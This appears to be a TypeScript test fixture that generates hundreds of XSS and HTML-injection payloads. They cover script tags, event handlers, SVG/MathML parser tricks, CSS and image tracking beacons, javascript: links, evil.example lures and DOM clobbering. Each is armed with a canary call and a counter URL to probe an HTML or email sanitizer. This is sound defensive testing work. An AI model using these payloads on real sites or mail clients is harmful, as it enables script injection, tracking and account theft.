/**
 * Hostile markup. `@@` stands for a script that tells on itself, `##` for an address that counts who asks for it (without
 * quotes or spaces). One line a trick, so that a new one is one line.
 */
const runs = String.raw`
<script>@@</script>
<SCRIPT SRC=##></SCRIPT>
<script src="##" async></script>
<script type="module">@@</script>
<script type="text/javascript" language="javascript">@@</script>
<scr<script>ipt>@@</scr</script>ipt>
<script/x>@@</script>
<script >@@</script >
<<script>@@//<</script>
<script>/*<!--*/@@/*-->*/</script>
<img src=x onerror=@@>
<img src=x onerror="@@">
<img/src=x/onerror=@@>
<img src=x OnErRoR=@@>
<img src=x onerror	=@@>
<img src='x' onerror='@@' alt='a'b'>
<img alt="<x" src=x onerror=@@ title=">">
<img """><script>@@</script>">
<img src=x:x onerror&#61;@@ onerror=@@>
<img src="data:image/png;base64,AAAA" onload=@@ onerror=@@>
<img srcset="x 1x, y 2x" onerror=@@>
<picture><source srcset="##"><img src=x onerror=@@></picture>
<svg onload=@@>
<svg/onload=@@>
<svg><script>@@</script></svg>
<svg><script href="##"/></svg>
<svg><script xlink:href="##"></script></svg>
<svg><g onload=@@></g></svg>
<svg><animate onbegin=@@ attributeName=x dur=1s></svg>
<svg><set onbegin=@@ attributeName=x></svg>
<svg><a xlink:href="javascript:@@"><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@@'/></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.@@</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=@@></style></svg>
<svg><desc><img src=x onerror=@@></desc></svg>
<svg><title><img src=x onerror=@@></title></svg>
<math><mtext><img src=x onerror=@@></mtext></math>
<math href="javascript:@@">press</math>
<math><maction actiontype="statusline" xlink:href="javascript:@@">press</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@@&gt;"></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@@></style></mglyph></form></mtext></math>
<svg></p><style><a id="</style><img src=x onerror=@@>"></style></svg>
<noscript><p title="</noscript><img src=x onerror=@@>"></noscript>
<template><img src=x onerror=@@></template>
<template shadowrootmode=open><img src=x onerror=@@></template>
<select><template><img src=x onerror=@@></template></select>
<table><td><svg><desc><td></desc><img src=x onerror=@@></svg></td></table>
<xmp><p title="</xmp><img src=x onerror=@@>"></xmp>
<noembed><img title="</noembed><img src=x onerror=@@>"></noembed>
<noframes><img title="</noframes><img src=x onerror=@@>"></noframes>
<textarea><img title="</textarea><img src=x onerror=@@>"></textarea>
<title><img title="</title><img src=x onerror=@@>"></title>
<style><img title="</style><img src=x onerror=@@>"></style>
<iframe><img title="</iframe><img src=x onerror=@@>"></iframe>
<a title="--><img src=x onerror=@@>"><!-- --></a>
<!--><img src=x onerror=@@>-->
<!--[if gte mso 9]><img src=x onerror=@@><![endif]-->
<![CDATA[<img src=x onerror=@@>]]>
<?xml version="1.0"?><?php ?><img src=x onerror=@@>
<p id='</p><img src=x onerror=@@>'>x</p>
<listing><img src=x onerror=@@></listing>
<body onload=@@>
<body background="x" onpageshow=@@>
<html onmouseover=@@><head></head></html>
<video src=x onerror=@@></video>
<video><source onerror=@@></video>
<audio src=x onerror=@@></audio>
<audio autoplay onloadstart=@@ src=x></audio>
<input autofocus onfocus=@@>
<select autofocus onfocus=@@><option>x</select>
<textarea autofocus onfocus=@@></textarea>
<button autofocus onfocus=@@>press</button>
<a autofocus tabindex=1 onfocus=@@>press</a>
<div tabindex=1 autofocus onfocus=@@>press</div>
<details open ontoggle=@@><summary>more</summary>x</details>
<marquee onstart=@@>x</marquee>
<object data="x" onerror=@@></object>
<object data="data:text/html,<script>parent.@@</script>"></object>
<object type="text/html" data="##"></object>
<embed src="##">
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<iframe src="##"></iframe>
<iframe src="javascript:parent.@@"></iframe>
<iframe srcdoc="<script>parent.@@</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.@@&gt;"></iframe>
<iframe onload=@@></iframe>
<frameset onload=@@><frame src="##"></frameset>
<link rel=stylesheet href="##">
<link rel=prefetch href="##">
<link rel=preload as=image href="##">
<link rel=icon href="##">
<link rel=dns-prefetch href="##"><link rel=preconnect href="##">
<link rel=import href="##">
<link rel=stylesheet href=x onerror=@@>
<style onload=@@>a{}</style>
<style>@import "##";</style>
<style>@import url(##);</style>
<style>body{background:url("##")}</style>
<style>@font-face{font-family:f;src:url("##")}*{font-family:f}</style>
<style>li{list-style-image:url("##")}</style><li>x
<style>*{animation:a 1s}@keyframes a{}</style><p onanimationstart=@@>x</p>
<style>body::after{content:url("##")}</style>
<p style="background-image:url(##)">x</p>
<p style="background:\75rl(##)">x</p>
<p style="width:expression(@@)">x</p>
<p style="behavior:url(##)">x</p>
<p style="-moz-binding:url(##)">x</p>
<p style="background:url('java\0script:@@')">x</p>
<p style="cursor:url(##),auto">x</p>
<p style='content:image-set("##" 1x)'>x</p>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red" onclick=@@>overlay</div>
<table background="##"><tr><td background="##">x</td></tr></table>
<img src="##">
<img src='//##'>
<img src=## width=1 height=1>
<img srcset="## 2x">
<img lowsrc="##" dynsrc="##" src="">
<img src="	##">
<img src="&#104;ttp://127.0.0.1/x" data-src="##" loading=eager>
<image src="##">
<image xlink:href="##">
<svg><image href="##"/></svg>
<svg><feImage xlink:href="##"/></svg>
<svg><rect fill="url(##)" filter="url(##)" width=9 height=9/></svg>
<input type=image src="##">
<video poster="##"></video>
<video><track kind=subtitles src="##" default></video>
<audio src="##" preload=auto></audio>
<bgsound src="##">
<blockquote cite="##"><q cite="##">x</q></blockquote>
<meta http-equiv=refresh content="0;url=##">
<meta http-equiv="refresh" content="0;url=javascript:@@">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>@@</script>">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>@@</script>
<meta http-equiv="Set-Cookie" content="a=b">
<meta charset="utf-7">+ADw-script+AD4-@@+ADw-/script+AD4-
<base href="##/"><img src=p><a href=x>press</a>
<base target="_top"><a href="##">press</a>
<form action="##" id=f><input name=a value=b></form><button form=f>press</button>
<form action="javascript:@@"><button>press</button></form>
<button formaction="javascript:@@">press</button>
<input type=submit formaction="##" value=press>
<isindex action="##" type=image>
<form id=document name=body><input name=attributes><input name=children><input name=parentNode></form>
<a id=trustedTypes name=createPolicy></a><a id=defaultView></a>
<img name=getElementById><form name=querySelector></form><a id=location href="##">press</a>
<a href="javascript:@@">press</a>
<a href="JaVaScRiPt:@@">press</a>
<a href="  javascript:@@">press</a>
<a href="java&#10;script:@@">press</a>
<a href="java	script:@@">press</a>
<a href="&#x6A;avascript&colon;@@">press</a>
<a href="&#1;javascript:@@">press</a>
<a href="javascript&#58;//%0a@@">press</a>
<a href="vbscript:@@">press</a>
<a href="data:text/html,<script>@@</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>
<a href="blob:null/1">press</a>
<a href="filesystem:http://127.0.0.1/x">press</a>
<a href="file:///etc/passwd">press</a>
<a href="about:srcdoc">press</a>
<a href="/api/v1/auth/session">press</a>
<a href="//evil.example/x">press</a>
<a href="\\evil.example\x">press</a>
<a href="https://evil.example/##" target="_top" rel=opener>press</a>
<a href="https://evil.example" target="_parent" rel="opener">press</a>
<a href="https://evil.example" ping="##">press</a>
<a href="https://evil.example" download onclick=@@>press</a>
<a href="https://evil.example#:~:text=x" onmouseover=@@ onpointerenter=@@>press</a>
<a href="https://bank.example@evil.example/">https://bank.example</a>
<map name=m><area shape=default href="javascript:@@"></map><img usemap=#m src="data:image/png;base64,AAAA" width=99 height=99>
<keygen autofocus onfocus=@@>
<dialog open onclose=@@><form method=dialog><button>press</button></form></dialog>
<div popover=auto id=q ontoggle=@@>x</div><button popovertarget=q>press</button>
<div contenteditable onbeforeinput=@@ onpaste=@@>x</div>
<p onbeforetoggle=@@ onscrollend=@@ oncontentvisibilityautostatechange=@@ style=content-visibility:auto>x</p>
<x onclick=@@>press</x><x-frame onmouseenter=@@ is=script>press</x-frame>
<portal src="##"></portal><fencedframe src="##"></fencedframe>
<applet code="##"></applet><layer src="##"></layer><ilayer src="##">
<p lang=javascript: dir=rtl>&#8238;gnp.exe&#8236; &lt;script&gt;@@&lt;/script&gt;</p>
<p>＜script＞@@＜/script＞ ‹script› %3Cscript%3E@@%3C/script%3E \u003cscript\u003e@@\u003c/script\u003e</p>
<p>&lt;img src=x onerror=@@&gt; &amp;lt;img src=x onerror=@@&amp;gt;</p>
<im` + "\u0000" + String.raw`g src=x onerror=@@>
<img src=x onerror=` + "\u0000" + String.raw`@@>
<img` + "\u000c" + String.raw`src=x` + "\u000c" + String.raw`onerror=@@>
`;

/** What swallows everything behind it, so each is the last of its mail. */
const swallows = String.raw`
<plaintext><img src=x onerror=@@>
<textarea><script>@@
<style><img src=x onerror=@@>
<title><script>@@</script>
<!-- <img src=x onerror=@@>
<script>@@
<img src="x" onerror="@@
<a href="javascript:@@" title='
<iframe srcdoc="<script>parent.@@</script>
<svg><style><![CDATA[<img src=x onerror=@@>
<table><tr><td><form><input autofocus onfocus=@@
`;

const lines = (text: string) => text.split("\n").filter((line) => line !== "");
/** What a reader gives up on, so each is a mail of its own. */
const nested = [
  `${"<div>".repeat(3000)}<img src=x onerror=@@>${"</div>".repeat(3000)}`,
  `${"<b><i>".repeat(400)}<svg onload=@@>`,
  `${"<table><tr><td>".repeat(300)}<script>@@</script>`,
  `${"<svg><g>".repeat(200)}<script>@@</script>`,
];

const armed = (payload: string, name: string, counter: string) => payload.replaceAll("@@", `canary('${name}')`).replaceAll("##", `${counter}/${name}`);

/** The corpus in mails of some fifteen tricks each; `name` tells which trick it was that worked. */
export function hostileBodies(counter: string): string[] {
  const open = lines(runs).map((payload, index) => armed(payload, `r${index}`, counter));
  const last = lines(swallows).map((payload, index) => armed(payload, `s${index}`, counter));
  const size = Math.ceil(open.length / last.length);
  const batches = last.map((swallow, index) => [...open.slice(index * size, (index + 1) * size), swallow].join("\n<hr>\n"));
  return [...batches, ...nested.map((payload, index) => armed(payload, `d${index}`, counter))];
}

export const hostileCount = lines(runs).length + lines(swallows).length + nested.length;

/** Short ones that fit a name, a subject or a file name: one line, no longer than 120 characters. */
export function hostileNames(counter: string, count: number): string[] {
  const short = lines(runs).filter((payload) => payload.length <= 64 && !/[\u0000\u000c\t]/.test(payload));
  return short.slice(0, count).map((payload, index) => armed(payload, `n${index}`, counter));
}
